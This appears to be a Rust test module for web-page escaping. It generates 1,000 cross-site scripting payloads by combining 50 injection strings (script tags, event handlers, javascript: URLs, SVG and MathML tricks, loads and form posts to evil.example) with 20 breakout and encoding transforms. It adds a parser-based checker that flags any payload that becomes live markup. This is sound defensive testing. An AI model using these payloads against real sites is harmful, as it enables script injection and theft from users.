//! A thousand ways to have a page run what a stranger wrote, and a judge who says whether one of them got through: the
//! page is parsed as a browser parses it, and nothing of a payload may have become an element, an attribute, a comment or
//! an address of its own.

use scraper::{Html, Node};
use url::Url;

/// What each payload does, with `!` where its mark stands.
const DEEDS: [&str; 50] = [
    "<script>alert('!')</script>",
    "<script src=//evil.example/!.js></script>",
    "<script>import('//evil.example/!.js')</script>",
    "<script type=module>!</script>",
    "<img src=x onerror=alert('!')>",
    "<img src=\"javascript:alert('!')\">",
    "<img/onerror=alert('!')/src=x>",
    "<image src=x onerror=alert('!')>",
    "<svg onload=alert('!')>",
    "<svg><script>alert('!')</script></svg>",
    "<svg><animate onbegin=alert('!') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('!')\"><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=!>\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='!'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('!')>",
    "<math href=\"javascript:alert('!')\">click</math>",
    "<iframe src=\"javascript:alert('!')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('!')</script>\"></iframe>",
    "<object data=\"javascript:alert('!')\"></object>",
    "<embed src=\"javascript:alert('!')\">",
    "<a href=\"javascript:alert('!')\">!</a>",
    "<a href=\"&#106;avascript:alert('!')\">!</a>",
    "<a href=\"java\tscript:alert('!')\">!</a>",
    "<a href=\"data:text/html,<script>alert('!')</script>\">!</a>",
    "<a href=vbscript:msgbox('!')>!</a>",
    "<body onload=alert('!')>",
    "<body onpageshow=alert('!')>",
    "<html onmouseover=alert('!')>",
    "<input autofocus onfocus=alert('!')>",
    "<select autofocus onfocus=alert('!')>",
    "<textarea autofocus onfocus=alert('!')>",
    "<details open ontoggle=alert('!')>",
    "<video><source onerror=alert('!')></video>",
    "<audio src=x onerror=alert('!')>",
    "<marquee onstart=alert('!')>!</marquee>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('!')\">",
    "<meta http-equiv=content-security-policy content='default-src * !'>",
    "<base href=\"//evil.example/!/\">",
    "<link rel=stylesheet href=\"//evil.example/!.css\">",
    "<link rel=import href=\"data:text/html,!\">",
    "<style>@import '//evil.example/!.css';</style>",
    "<style>body{background:url(//evil.example/!)}</style>",
    "<div style=\"background:url(javascript:alert('!'))\">",
    "<div style=\"position:fixed;inset:0\" id=!>",
    "<form action=\"//evil.example/!\"><button>Approve</button></form>",
    "<button formaction=\"javascript:alert('!')\">!</button>",
    "<isindex type=image src=1 onerror=alert('!')>",
    "<template><script>alert('!')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('!')>\">",
    "<x onclick=alert('!') hx-on:click=alert('!') hx-get=\"//evil.example/!\" data-live=!>",
];

/// How a payload tries to get out of where it is put: the name, and what becomes of the deed.
const WAYS: [fn(&str) -> String; 20] = [
    |deed| deed.to_owned(),
    |deed| format!("\">{deed}"),
    |deed| format!("'>{deed}"),
    |deed| format!("\" autofocus onfocus={} x=\"{deed}", "alert('MARK')"),
    |deed| format!("' onmouseover=alert('MARK') x='{deed}"),
    |deed| format!("</title>{deed}"),
    |deed| format!("</textarea>{deed}"),
    |deed| format!("</script>{deed}"),
    |deed| format!("</style>{deed}"),
    |deed| format!("-->{deed}<!--"),
    |deed| format!("]]>{deed}"),
    |deed| format!("<!--{deed}-->"),
    str::to_uppercase,
    |deed| deed.replace('<', "<<"),
    |deed| deed.replace(' ', "\n"),
    |deed| deed.replace(' ', "/"),
    |deed| deed.replace('<', "&lt;").replace('>', "&gt;"),
    |deed| {
        deed.chars()
            .map(|c| if c == '<' || c == '>' || c == '"' { format!("&#{};", c as u32) } else { c.to_string() })
            .collect()
    },
    |deed| format!("\u{202e}{{{{ {deed} }}}}{{% raw %}}${{{deed}}}`"),
    |deed| deed.trim_end_matches('>').to_owned(),
];

/// All of them, each with its own mark.
pub fn all() -> Vec<(String, String)> {
    let each = DEEDS.iter().flat_map(|deed| WAYS.iter().map(move |way| way(deed)));
    let marked = |(n, text): (usize, String)| {
        let mark = format!("xss{n:04}");
        // Where the way made the letters large, its mark is large, too.
        (mark.clone(), text.replace("MARK", &mark).replace('!', &mark))
    };
    each.enumerate().map(marked).collect()
}

/// Elements that our pages have. Whatever else is there was brought in.
const OURS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "body",
    "a",
    "abbr",
    "article",
    "aside",
    "b",
    "bdi",
    "br",
    "button",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "dialog",
    "div",
    "dl",
    "dt",
    "em",
    "fieldset",
    "figcaption",
    "figure",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "header",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "label",
    "legend",
    "li",
    "main",
    "mark",
    "meter",
    "nav",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "path",
    "pre",
    "progress",
    "q",
    "rect",
    "circle",
    "g",
    "line",
    "defs",
    "symbol",
    "use",
    "polyline",
    "polygon",
    "s",
    "samp",
    "search",
    "section",
    "select",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "svg",
    "table",
    "tbody",
    "td",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "wbr",
];

/// Attributes in which foreign words may stand: they are only ever read out.
const WORDS: &[&str] = &["value", "title", "alt", "aria-label", "placeholder", "content", "lang", "data-text"];

/// Attributes that lead somewhere.
const PLACES: &[&str] = &["href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster", "ping"];

/// Whatever of a foreign text has become more than words on that page, in words.
pub fn faults(page: &str, at: &str) -> Vec<String> {
    let here = Url::parse(at).expect("a page has an address");
    let mut found = Vec::new();
    for node in Html::parse_document(page).tree.nodes() {
        match node.value() {
            Node::Comment(comment) if comment.contains("xss") || comment.contains("XSS") => {
                found.push(format!("a comment: {}", &**comment));
            }
            Node::ProcessingInstruction(_) => found.push("an instruction".to_owned()),
            Node::Text(text) => {
                let inside = node.parent().and_then(|it| it.value().as_element().map(|it| it.name().to_owned()));
                let inside = inside.unwrap_or_default();
                if matches!(inside.as_str(), "script" | "style") {
                    found.push(format!("words in <{inside}>: {}", &**text));
                }
            }
            Node::Element(element) => {
                let name = element.name();
                if !OURS.contains(&name) {
                    found.push(format!("<{name}>"));
                }
                for (key, value) in element.attrs() {
                    let shown = || format!("<{name} {key}={value:?}>");
                    let is_marked = value.to_ascii_lowercase().contains("xss") || value.contains("evil.example");
                    let is_good = match key {
                        "style" | "srcdoc" | "http-equiv" | "nonce" => false,
                        _ if key.starts_with("on") || key.starts_with("hx-on") => false,
                        // Nothing of ours is loaded from, or sent to, an address with a stranger's words in it.
                        "href" if name == "a" => is_good_place(name, value, &here),
                        _ if PLACES.contains(&key) => !is_marked && is_good_place(name, value, &here),
                        _ if WORDS.contains(&key) => true,
                        _ => !is_marked,
                    };
                    if !is_good || key.to_ascii_lowercase().contains("xss") {
                        found.push(shown());
                    }
                }
            }
            _ => {}
        }
    }
    found
}

/// Only links lead elsewhere, and only on the web.
fn is_good_place(name: &str, value: &str, here: &Url) -> bool {
    let Ok(url) = here.join(value) else { return false };
    match url.origin() == here.origin() {
        true => true,
        false => name == "a" && matches!(url.scheme(), "http" | "https"),
    }
}

#[test]
fn the_judge_sees_each_of_them_where_it_is_not_escaped() {
    let all = all();
    assert_eq!(all.len(), 1_000);
    let marks: std::collections::BTreeSet<&String> = all.iter().map(|(mark, _)| mark).collect();
    assert_eq!(marks.len(), 1_000);
    // Put onto a page as they are, in words and in an attribute, those that would run are seen.
    let bare = |text: &str| format!("<!doctype html><title>t</title><p title=\"{text}\">{text}</p>");
    let missed: Vec<&String> = all
        .iter()
        .map(|(_, text)| text)
        .filter(|text| faults(&bare(text), "http://desk.example/").is_empty())
        .collect();
    // What has neither a bare `<` nor a quote is words wherever it stands.
    assert!(missed.iter().all(|text| !text.contains(['<', '"'])), "{missed:#?}");
    assert!(missed.len() <= 100, "{}", missed.len());
    // And escaped as our templates do, none is.
    let escaped = |text: &str| {
        let text = text.replace('&', "&#38;").replace('<', "&#60;").replace('>', "&#62;");
        bare(&text.replace('"', "&#34;").replace('\'', "&#39;"))
    };
    for (_, text) in &all {
        assert_eq!(faults(&escaped(text), "http://desk.example/"), [""; 0], "{text}");
    }
}
